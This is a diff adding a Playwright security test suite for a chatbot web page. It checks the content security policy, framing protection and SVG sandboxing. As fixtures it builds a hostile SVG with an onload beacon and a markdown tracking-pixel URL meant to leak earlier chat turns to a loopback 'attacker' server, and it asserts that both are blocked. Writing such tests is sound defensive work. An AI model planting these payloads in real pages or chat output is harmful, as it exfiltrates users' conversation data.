@@ -1,0 +1,232 @@
+"""The page's own defences, proven in Chromium: what it loads, who may frame it, what an SVG may do.
+
+One bot serves a copy of the retail project whose logo, favicon and a public file are hostile SVGs;
+a scripted middleware answers with chosen markdown. Two more loopback servers stand for other
+sites: an "attacker" (a tracking pixel host, and a page that tries to frame the bot) that records
+every request it gets, and an image host the deployment lists in IMAGE_HOSTS.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import secrets
+import shutil
+import threading
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+from playwright.sync_api import Page, expect
+
+from brandbot.browser import send
+from brandbot.processes import Service, free_port, start_app
+
+from .conftest import REPO, record_figure, skip_local_state
+
+GIF = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")
+ANSWERS = '[data-step-type="assistant_message"]'
+
+
+@dataclass
+class Site:
+    """Another origin on loopback (a real HTTP server in a thread) that records every request it gets.
+
+    It answers `*.gif` with a 1x1 GIF, `/frame.html` with a page framing `frame_target`, and
+    POST `/chat` like a brand's middleware: the queued markdown replies, one per message.
+    """
+
+    frame_target: str = ""
+    replies: list[str] = field(default_factory=list)
+    requests: list[tuple[str, dict[str, str]]] = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        site = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                site.requests.append((self.path, {key.lower(): value for key, value in self.headers.items()}))
+                if self.path.split("?")[0].endswith(".gif"):
+                    self.reply(200, "image/gif", GIF)
+                elif self.path == "/frame.html":
+                    page = f'<!doctype html><title>other site</title><iframe src="{site.frame_target}"></iframe>'
+                    self.reply(200, "text/html", page.encode())
+                else:
+                    self.reply(404, "text/plain", b"not here")
+
+            def do_POST(self) -> None:
+                self.rfile.read(int(self.headers["Content-Length"]))
+                reply = site.replies.pop(0) if site.replies else "(no reply queued)"
+                self.reply(200, "application/json", json.dumps({"response": reply, "category": None}).encode())
+
+            def reply(self, status: int, content_type: str, body: bytes) -> None:
+                self.send_response(status)
+                self.send_header("Content-Type", content_type)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def paths(self) -> list[str]:
+        return [path for path, _ in self.requests]
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@dataclass
+class Setup:
+    bot: Service
+    middleware: Site
+    attacker: Site
+    image_host: Site
+
+
+def hostile_svg(beacon: str) -> str:
+    """An SVG that, if it ever runs as a document on the bot's origin, marks itself and calls `beacon`."""
+    return ('<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" '
+            "onload=\"document.documentElement.setAttribute('data-ran','yes');"
+            f"new Image().src='{beacon}'\"><rect width=\"16\" height=\"16\"/></svg>")
+
+
+@pytest.fixture(scope="module")
+def setup(rendered: Callable[[Path], Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
+    middleware, attacker, image_host = Site(), Site(), Site()
+    project = tmp_path_factory.mktemp("security") / "project"
+    shutil.copytree(rendered(REPO / "examples/retail.yml"), project, ignore=skip_local_state)
+    public = project / "public"
+    for old in [*public.glob("logo_*.*"), *public.glob("favicon.*")]:
+        old.unlink()
+    for name in ("logo_light.svg", "logo_dark.svg", "favicon.svg", "hostile.svg"):
+        (public / name).write_text(hostile_svg(f"{attacker.origin}/svg-ran-{name}.gif"), encoding="utf-8")
+    secret = "security-" + secrets.token_hex(12)
+    try:
+        bot = start_app(project, port=free_port(), middleware_url=f"{middleware.origin}/chat", secret=secret,
+                        log_dir=tmp_path_factory.mktemp("security-logs"),
+                        extra_env={"IMAGE_HOSTS": image_host.origin, "TRANSITION_DELAY_SECONDS": "0"})
+    except BaseException:
+        for site in (middleware, attacker, image_host):
+            site.stop()
+        raise
+    attacker.frame_target = bot.base_url + "/"
+    yield Setup(bot, middleware, attacker, image_host)
+    bot.stop()
+    for site in (middleware, attacker, image_host):
+        site.stop()
+
+
+@dataclass
+class Watched:
+    """A page with every request it made and every console message it printed."""
+
+    page: Page
+    requests: list[str]
+    console: list[str]
+
+
+@pytest.fixture
+def watched(browser: Any) -> Iterator[Watched]:
+    context = browser.new_context(viewport={"width": 1000, "height": 800}, locale="en-US")
+    page = context.new_page()
+    requests: list[str] = []
+    console: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("console", lambda message: console.append(f"{message.type}: {message.text}"))
+    yield Watched(page, requests, console)
+    context.close()
+
+
+def open_chat(watched: Watched, setup: Setup) -> None:
+    watched.page.goto(setup.bot.base_url)
+    expect(watched.page.locator(ANSWERS).first).to_be_visible(timeout=20_000)
+
+
+def answer(watched: Watched, setup: Setup, reply: str) -> Any:
+    """Queue `reply` at the middleware, send a message, and return the rendered answer's content."""
+    answers = watched.page.locator(ANSWERS)
+    before = answers.count()
+    setup.middleware.replies.append(reply)
+    send(watched.page, "next")
+    expect(answers).to_have_count(before + 1, timeout=10_000)
+    content = answers.last.locator(".message-content").first
+    expect(content).not_to_have_text("Thinking...", timeout=10_000)
+    return content
+
+
+def csp_violations(console: list[str]) -> list[str]:
+    return [line for line in console if "Content Security Policy" in line or "Refused to" in line]
+
+
+def test_the_page_works_under_its_policy_and_requests_only_the_bot(watched: Watched, setup: Setup) -> None:
+    response = httpx.get(setup.bot.base_url + "/", timeout=5)
+    assert "frame-ancestors 'self'" in response.headers.get("content-security-policy", "")
+    open_chat(watched, setup)
+    content = answer(watched, setup, "Your order **QX-77** has shipped.")
+    expect(content).to_have_text("Your order QX-77 has shipped.")
+    bot_host = urlsplit(setup.bot.base_url).netloc
+    others = sorted({url for url in watched.requests if urlsplit(url).netloc != bot_host and
+                     not url.startswith(("data:", "blob:"))})
+    record_figure("requests to other hosts on loading the page and chatting", len(others), "Chromium, retail")
+    assert others == []
+    assert csp_violations(watched.console) == []
+
+
+def test_a_remote_image_in_an_answer_is_never_fetched_and_its_alt_text_shows(watched: Watched,
+                                                                              setup: Setup) -> None:
+    open_chat(watched, setup)
+    pixel = f"{setup.attacker.origin}/p.gif?leak=earlier-turns"
+    reply = (f"Inline ![Inline photo]({pixel}&kind=inline) and reference ![Reference photo][pixel]\n\n"
+             f"[pixel]: {pixel}&kind=reference")
+    content = answer(watched, setup, reply)
+    for alt in ("Inline photo", "Reference photo"):  # a broken <img> shows its alt text in Chromium's box
+        image = content.get_by_role("img", name=alt, exact=True)
+        expect(image).to_be_visible()
+        assert image.evaluate("image => image.complete && image.naturalWidth === 0")
+    watched.page.wait_for_timeout(500)  # give a fetch that should not happen the time to arrive
+    leaked = [path for path in setup.attacker.paths() if path.startswith("/p.gif")]
+    record_figure("requests to an unlisted image host from an answer's images", len(leaked),
+                  "inline + reference image")
+    assert leaked == []
+    blocked = [line for line in csp_violations(watched.console) if setup.attacker.origin in line]
+    assert len(blocked) >= 1, watched.console
+
+
+def test_an_image_from_a_listed_host_loads_without_a_referrer(watched: Watched, setup: Setup) -> None:
+    open_chat(watched, setup)
+    content = answer(watched, setup, f"Here it is: ![Boot photo]({setup.image_host.origin}/boot.gif)")
+    image = content.locator('img[alt="Boot photo"]')
+    expect(image).to_be_visible()
+    assert image.evaluate("image => image.complete && image.naturalWidth > 0")
+    fetched = [headers for path, headers in setup.image_host.requests if path == "/boot.gif"]
+    assert len(fetched) == 1 and "referer" not in fetched[0]
+
+
+def test_another_origin_cannot_frame_the_bot(watched: Watched, setup: Setup) -> None:
+    watched.page.goto(f"{setup.attacker.origin}/frame.html")
+    watched.page.wait_for_timeout(3_000)  # a framed page that loads shows its welcome within this time
+    framed = [frame for frame in watched.page.frames if frame != watched.page.main_frame]
+    assert len(framed) == 1
+    assert framed[0].locator(ANSWERS).count() == 0
+    assert any("frame-ancestors" in line for line in watched.console), watched.console
+
+
+@pytest.mark.parametrize("path", ["/logo?theme=light", "/logo?theme=dark", "/favicon", "/public/hostile.svg"])
+def test_a_hostile_svg_opened_directly_runs_nothing(watched: Watched, setup: Setup, path: str) -> None:
+    response = watched.page.goto(setup.bot.base_url + path)
+    assert response is not None and response.headers["content-type"].startswith("image/svg+xml")
+    assert re.search(r"\bsandbox\b", response.headers.get("content-security-policy", ""))
+    watched.page.wait_for_timeout(300)
+    assert watched.page.evaluate("document.documentElement.getAttribute('data-ran')") is None
+    assert [path for path in setup.attacker.paths() if "svg-ran" in path] == []
